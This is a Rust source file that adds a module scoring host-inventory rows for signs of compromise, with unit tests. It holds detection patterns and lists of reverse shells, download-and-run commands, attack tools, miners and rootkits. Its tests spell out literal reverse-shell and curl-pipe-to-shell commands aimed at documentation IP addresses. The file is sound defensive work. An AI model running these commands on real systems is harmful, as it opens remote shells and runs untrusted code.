@@ -1,0 +1,471 @@
+//! What makes a row security-relevant, beyond being rare.
+//!
+//! Each indicator has a multiplier; a row's severity is the largest multiplier
+//! of its indicators, raised by a fifth for each further indicator (at most
+//! 10). Indicators are read from the row's original values, never from the
+//! normalised ones.
+//!
+//! | indicator | × |
+//! |---|---|
+//! | a second account with uid 0 | 8 |
+//! | reverse-shell pattern (`/dev/tcp/`, `nc -e`, `socat exec:`, `bash -i`, scripted sockets) | 6 |
+//! | cryptominer pool URL (`stratum+tcp://`) | 6 |
+//! | executable in a world-writable directory (`/tmp`, `/var/tmp`, `/dev/shm`) | 5 |
+//! | downloads and runs code (`curl`/`wget` piped to a shell or made executable) | 5 |
+//! | decodes and runs hidden code (`base64 -d` piped to a shell) | 5 |
+//! | known attack tool or miner name | 5 |
+//! | executable deleted after start | 4 |
+//! | kernel-thread name with an executable file (masquerading) | 4 |
+//! | a security or logging agent is not running (for missing rows) | 4 |
+//! | known rootkit module name | 3 |
+//! | hidden file or directory in a path | 2.5 |
+//! | command line refers to a world-writable directory | 2 |
+//! | a system binary differs (`/bin`, `/sbin`, `/usr/bin`, `/usr/sbin`, `/lib*`) | 2 |
+//! | a system account with a login shell | 2 |
+//! | grants login as root | 1.5 |
+//! | runs at every boot (`@reboot`) | 1.5 |
+//! | a module the kernel loads on demand (netfilter, filesystems, bridges) | 0.4 |
+//! | a kernel thread (no executable, no command line) | 0.2 |
+
+use diffy_core::{FindingKind, Row};
+
+use crate::profile::QueryKind;
+
+const TMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/dev/mqueue/"];
+const SYSTEM_DIRS: &[&str] =
+    &["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/lib/", "/lib64/", "/usr/lib/", "/usr/lib64/", "/usr/libexec/"];
+const TOOLS: &[&str] = &[
+    "xmrig",
+    "minerd",
+    "cpuminer",
+    "kinsing",
+    "kdevtmpfsi",
+    "xmr-stak",
+    "ethminer",
+    "nbminer",
+    "t-rex",
+    "meterpreter",
+    "mettle",
+    "sliver",
+    "chisel",
+    "frpc",
+    "ngrok",
+    "linpeas",
+    "pspy",
+    "tsunami",
+    "kaiten",
+    "mirai",
+    "gafgyt",
+    "watchbog",
+    "sysrv",
+    "kthreaddi",
+    "dbused",
+    "pnscan",
+    "masscan",
+    "zmap",
+    "hydra",
+    "linux-exploit-suggester",
+    "beacon",
+    "cobaltstrike",
+    "merlin",
+    "pupy",
+    "reptile",
+    "diamorphine",
+];
+const ROOTKITS: &[&str] = &[
+    "diamorphine",
+    "reptile",
+    "suterusu",
+    "adore",
+    "knark",
+    "kbeast",
+    "rootkit",
+    "enyelkm",
+    "azazel",
+    "bdvl",
+    "khook",
+    "puszek",
+];
+const ON_DEMAND_MODULE_PREFIXES: &[&str] = &[
+    "xt_",
+    "nf_",
+    "nft_",
+    "ip_tables",
+    "ip6_tables",
+    "iptable_",
+    "ip6table_",
+    "ebtable",
+    "ebt_",
+    "ip_set",
+    "nfnetlink",
+    "x_tables",
+    "bridge",
+    "br_netfilter",
+    "veth",
+    "overlay",
+    "tun",
+    "loop",
+    "binfmt_misc",
+    "isofs",
+    "udf",
+    "nls_",
+    "vfat",
+    "fat",
+    "llc",
+    "stp",
+    "bonding",
+    "8021q",
+    "garp",
+    "mrp",
+    "dummy",
+    "tls",
+    "ipt_",
+    "ip6t_",
+    "nf_conntrack",
+];
+const AGENTS: &[&str] = &[
+    "auditd",
+    "osqueryd",
+    "falcon-sensor",
+    "falcond",
+    "amazon-ssm-agent",
+    "ssm-agent-worker",
+    "wazuh-agentd",
+    "ossec-agentd",
+    "sysmon",
+    "splunkd",
+    "filebeat",
+    "auditbeat",
+    "elastic-agent",
+    "cbagentd",
+    "sentinelone",
+    "ds_agent",
+    "qualys-cloud-ag",
+    "rsyslogd",
+    "syslog-ng",
+    "systemd-journal",
+    "fluent-bit",
+    "td-agent",
+];
+const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "ash", "fish"];
+
+/// A row's security relevance: a multiplier and what justifies it.
+#[derive(Clone, Debug, Default, PartialEq)]
+pub struct Assessment {
+    /// 1.0 when nothing stands out.
+    pub severity: f64,
+    /// Human-readable reasons, strongest first.
+    pub indicators: Vec<String>,
+}
+
+struct Collector {
+    found: Vec<(f64, String)>,
+}
+
+impl Collector {
+    fn add(&mut self, mult: f64, text: impl Into<String>) {
+        let text = text.into();
+        if !self.found.iter().any(|(_, t)| *t == text) {
+            self.found.push((mult, text));
+        }
+    }
+
+    fn finish(mut self) -> Assessment {
+        if self.found.is_empty() {
+            return Assessment { severity: 1.0, indicators: Vec::new() };
+        }
+        self.found.sort_by(|a, b| b.0.total_cmp(&a.0));
+        let max = self.found[0].0;
+        let severity = if max >= 1.0 { (max * (1.0 + 0.2 * (self.found.len() - 1) as f64)).min(10.0) } else { max };
+        Assessment { severity, indicators: self.found.into_iter().map(|(_, t)| t).collect() }
+    }
+}
+
+fn get<'a>(row: &'a Row, col: &str) -> &'a str {
+    row.get(col).map(String::as_str).unwrap_or("")
+}
+
+fn tmp_dir_of(path: &str) -> Option<&'static str> {
+    TMP_DIRS.iter().find(|d| path.starts_with(**d)).map(|d| d.trim_end_matches('/'))
+}
+
+fn mentions_tmp(text: &str) -> Option<&'static str> {
+    TMP_DIRS.iter().find(|d| text.contains(**d)).map(|d| d.trim_end_matches('/'))
+}
+
+fn has_hidden_component(path: &str) -> bool {
+    path.split('/').any(|c| c.len() > 1 && c.starts_with('.') && c != ".." && !c.starts_with("./"))
+}
+
+fn basename(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Patterns of commands that give an attacker a shell, fetch and run code, or
+/// decode hidden code.
+fn command_patterns(text: &str, c: &mut Collector) {
+    if text.is_empty() {
+        return;
+    }
+    let t = text.to_ascii_lowercase();
+    let words: Vec<&str> = t
+        .split(|ch: char| ch.is_whitespace() || ch == ';' || ch == '|' || ch == '&')
+        .filter(|w| !w.is_empty())
+        .collect();
+    let first = words.first().map(|w| basename(w)).unwrap_or("");
+    let has_word = |w: &str| words.iter().any(|x| basename(x) == w);
+    let reverse = t.contains("/dev/tcp/")
+        || t.contains("/dev/udp/")
+        || ((has_word("nc") || has_word("ncat") || has_word("netcat"))
+            && (words.contains(&"-e") || words.contains(&"-c") || t.contains("mkfifo")))
+        || (has_word("socat") && (t.contains("exec:") || t.contains("system:")))
+        || (SHELLS.contains(&first) && words.get(1) == Some(&"-i") && words.len() <= 3)
+        || ((first.starts_with("python")
+            || first.starts_with("perl")
+            || first.starts_with("ruby")
+            || first.starts_with("php"))
+            && (t.contains("socket") || t.contains("fsockopen") || t.contains("pty.spawn")))
+        || (t.contains("0<&") && t.contains("exec"))
+        || (has_word("telnet") && t.contains("| /bin/sh"));
+    if reverse {
+        c.add(6.0, "reverse-shell pattern");
+    }
+    if t.contains("stratum+tcp://") || t.contains("stratum+ssl://") {
+        c.add(6.0, "cryptominer pool URL");
+    }
+    let fetches = has_word("curl") || has_word("wget") || t.contains("fetch ") || t.contains("lwp-download");
+    let runs = t.contains("| sh")
+        || t.contains("|sh")
+        || t.contains("| bash")
+        || t.contains("|bash")
+        || t.contains("| /bin/sh")
+        || t.contains("| /bin/bash")
+        || t.contains("| python")
+        || t.contains("| perl")
+        || t.contains("chmod +x")
+        || t.contains("chmod 7")
+        || t.contains("sh -c \"$(")
+        || t.contains("bash -c \"$(");
+    if fetches && runs {
+        c.add(5.0, "downloads and runs code");
+    }
+    if (t.contains("base64 -d") || t.contains("base64 --decode"))
+        && (t.contains("| sh")
+            || t.contains("| bash")
+            || t.contains("|sh")
+            || t.contains("|bash")
+            || t.contains("eval"))
+    {
+        c.add(5.0, "decodes and runs hidden code");
+    }
+    for w in &words {
+        let b = basename(w);
+        if let Some(tool) = TOOLS.iter().find(|tool| b == **tool || (tool.len() >= 6 && b.starts_with(**tool))) {
+            c.add(5.0, format!("known attack tool or miner name ({tool})"));
+            break;
+        }
+    }
+    if let Some(dir) = mentions_tmp(text) {
+        c.add(2.0, format!("command refers to a world-writable directory ({dir})"));
+    }
+    if words.iter().any(|w| w.starts_with('/') && has_hidden_component(w)) {
+        c.add(2.5, "hidden file or directory in a path");
+    }
+}
+
+fn executable_path(path: &str, c: &mut Collector) {
+    if path.is_empty() {
+        return;
+    }
+    if let Some(dir) = tmp_dir_of(path) {
+        c.add(5.0, format!("executable in a world-writable directory ({dir})"));
+    }
+    if path.ends_with(" (deleted)") {
+        c.add(4.0, "executable deleted after it started");
+    }
+    if has_hidden_component(path) {
+        c.add(2.5, "hidden file or directory in a path");
+    }
+    let b = basename(path).to_ascii_lowercase();
+    if let Some(tool) = TOOLS.iter().find(|tool| b == **tool || (tool.len() >= 6 && b.starts_with(**tool))) {
+        c.add(5.0, format!("known attack tool or miner name ({tool})"));
+    }
+}
+
+/// Assesses a row of query `kind` reported as a finding of `finding`.
+pub fn assess(kind: QueryKind, row: &Row, finding: FindingKind) -> Assessment {
+    let mut c = Collector { found: Vec::new() };
+    if kind == QueryKind::Processes && get(row, "path").is_empty() && get(row, "cmdline").is_empty() {
+        // A kernel thread (no executable, no command line): workers come and
+        // go with load; their presence or absence says little.
+        return Assessment { severity: 0.2, indicators: Vec::new() };
+    }
+    if matches!(finding, FindingKind::Missing | FindingKind::Removed) {
+        if kind == QueryKind::Processes {
+            let name = get(row, "name");
+            let path = basename(get(row, "path"));
+            if AGENTS.iter().any(|a| name.starts_with(a) || path == *a) {
+                c.add(4.0, "a security or logging agent is not running here");
+            }
+        }
+        return c.finish();
+    }
+    match kind {
+        QueryKind::Processes => {
+            let path = get(row, "path");
+            executable_path(path, &mut c);
+            command_patterns(get(row, "cmdline"), &mut c);
+            let name = get(row, "name");
+            let tool_name = name.to_ascii_lowercase();
+            if TOOLS.iter().any(|t| tool_name == *t) {
+                c.add(5.0, format!("known attack tool or miner name ({name})"));
+            }
+            let kthread_like = ["kworker", "kthreadd", "ksoftirqd", "kswapd", "migration/", "rcu_", "watchdog/"]
+                .iter()
+                .any(|k| name.trim_start_matches('[').starts_with(k));
+            if kthread_like && !path.is_empty() {
+                c.add(4.0, "kernel-thread name with an executable file (masquerading)");
+            }
+        }
+        QueryKind::ListeningPorts => {
+            executable_path(get(row, "path"), &mut c);
+            let name = get(row, "name").to_ascii_lowercase();
+            if ["nc", "ncat", "netcat", "socat"].contains(&name.as_str()) {
+                c.add(4.0, format!("listener is {name}"));
+            }
+        }
+        QueryKind::Crontab => {
+            command_patterns(get(row, "command"), &mut c);
+            if get(row, "event") == "@reboot" {
+                c.add(1.5, "runs at every boot (@reboot)");
+            }
+        }
+        QueryKind::KernelModules => {
+            let name = get(row, "name").to_ascii_lowercase();
+            if ROOTKITS.iter().any(|r| name.contains(r)) {
+                c.add(3.0, "known rootkit module name");
+            } else if ON_DEMAND_MODULE_PREFIXES.iter().any(|p| name.starts_with(p)) {
+                c.add(0.4, "a module the kernel loads on demand (netfilter, filesystems, bridges)");
+            }
+        }
+        QueryKind::Users => {
+            let uid = get(row, "uid");
+            let user = get(row, "username");
+            if uid == "0" && user != "root" {
+                c.add(8.0, "a second account with uid 0");
+            }
+            let shell = basename(get(row, "shell"));
+            if let Ok(n) = uid.parse::<u32>() {
+                if n > 0 && n < 1000 && SHELLS.contains(&shell) && user != "sync" {
+                    c.add(2.0, "a system account with a login shell");
+                }
+            }
+            if tmp_dir_of(&format!("{}/", get(row, "directory"))).is_some() {
+                c.add(4.0, "home directory in a world-writable directory");
+            }
+        }
+        QueryKind::AuthorizedKeys => {
+            if get(row, "uid") == "0" || get(row, "username") == "root" || get(row, "key_file").starts_with("/root/") {
+                c.add(1.5, "grants login as root");
+            }
+            command_patterns(get(row, "options"), &mut c);
+        }
+        QueryKind::FileHashes => {
+            let path = get(row, "path");
+            if matches!(finding, FindingKind::Changed | FindingKind::Added)
+                && SYSTEM_DIRS.iter().any(|d| path.starts_with(d))
+            {
+                c.add(2.0, "a system binary differs");
+            }
+            executable_path(path, &mut c);
+        }
+        QueryKind::SuidBin => {
+            let path = get(row, "path");
+            executable_path(path, &mut c);
+            if path.starts_with("/home/") || path.starts_with("/root/") {
+                c.add(4.0, "setuid binary in a home directory");
+            }
+        }
+        QueryKind::StartupItems => {
+            executable_path(get(row, "path"), &mut c);
+            command_patterns(get(row, "path"), &mut c);
+        }
+        QueryKind::ShellHistory => {}
+        QueryKind::Other => {
+            for v in row.values() {
+                if v.starts_with('/') && !v.contains(char::is_whitespace) {
+                    executable_path(v, &mut c);
+                } else {
+                    command_patterns(v, &mut c);
+                }
+            }
+        }
+    }
+    c.finish()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn row(pairs: &[(&str, &str)]) -> Row {
+        pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
+    }
+
+    fn sev(kind: QueryKind, pairs: &[(&str, &str)]) -> f64 {
+        assess(kind, &row(pairs), FindingKind::Rare).severity
+    }
+
+    #[test]
+    fn reverse_shells() {
+        for cmd in [
+            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+            "nc -e /bin/sh 203.0.113.9 4444",
+            "python3 -c import socket,subprocess,os;s=socket.socket()",
+            "socat tcp:203.0.113.9:4444 exec:/bin/bash,pty",
+            "sh -i",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
+        ] {
+            assert!(sev(QueryKind::Processes, &[("cmdline", cmd), ("name", "x")]) >= 6.0, "{cmd}");
+        }
+        for benign in
+            ["/usr/sbin/sshd -D", "-bash", "nginx: worker process", "/usr/bin/python3 /usr/bin/unattended-upgrade"]
+        {
+            assert_eq!(sev(QueryKind::Processes, &[("cmdline", benign), ("path", "/usr/sbin/x")]), 1.0, "{benign}");
+        }
+    }
+
+    #[test]
+    fn cron_and_paths() {
+        assert!(sev(QueryKind::Crontab, &[("command", "curl -fsSL http://198.51.100.7/x.sh | sh")]) >= 5.0);
+        assert!(sev(QueryKind::Crontab, &[("command", "wget -q -O- http://x/y|bash")]) >= 5.0);
+        assert!(sev(QueryKind::Crontab, &[("command", "echo Y3VybCBldmls | base64 -d | bash")]) >= 5.0);
+        assert_eq!(sev(QueryKind::Crontab, &[("command", "root cd / && run-parts --report /etc/cron.hourly")]), 1.0);
+        assert!(sev(QueryKind::ListeningPorts, &[("path", "/tmp/.x/srv"), ("port", "4444")]) >= 5.0);
+        assert!(sev(QueryKind::Processes, &[("path", "/dev/shm/[kworker]"), ("name", "kworker/0:2")]) >= 5.0);
+    }
+
+    #[test]
+    fn accounts_keys_modules_binaries() {
+        assert!(sev(QueryKind::Users, &[("username", "toor"), ("uid", "0"), ("shell", "/bin/bash")]) >= 8.0);
+        assert_eq!(sev(QueryKind::Users, &[("username", "root"), ("uid", "0"), ("shell", "/bin/bash")]), 1.0);
+        assert_eq!(sev(QueryKind::AuthorizedKeys, &[("uid", "0"), ("key_file", "/root/.ssh/authorized_keys")]), 1.5);
+        assert!(sev(QueryKind::KernelModules, &[("name", "diamorphine")]) >= 3.0);
+        assert!(sev(QueryKind::KernelModules, &[("name", "xt_conntrack")]) < 1.0);
+        assert_eq!(sev(QueryKind::Processes, &[("name", "kworker/0:1"), ("path", ""), ("cmdline", "")]), 0.2);
+        let changed = assess(QueryKind::FileHashes, &row(&[("path", "/usr/bin/sudo")]), FindingKind::Changed);
+        assert_eq!(changed.severity, 2.0);
+        let app = assess(QueryKind::FileHashes, &row(&[("path", "/opt/app/bin/server")]), FindingKind::Changed);
+        assert_eq!(app.severity, 1.0);
+    }
+
+    #[test]
+    fn missing_agents() {
+        let a =
+            assess(QueryKind::Processes, &row(&[("name", "auditd"), ("path", "/sbin/auditd")]), FindingKind::Missing);
+        assert_eq!(a.severity, 4.0);
+        let b =
+            assess(QueryKind::Processes, &row(&[("name", "cron"), ("path", "/usr/sbin/cron")]), FindingKind::Missing);
+        assert_eq!(b.severity, 1.0);
+    }
+}
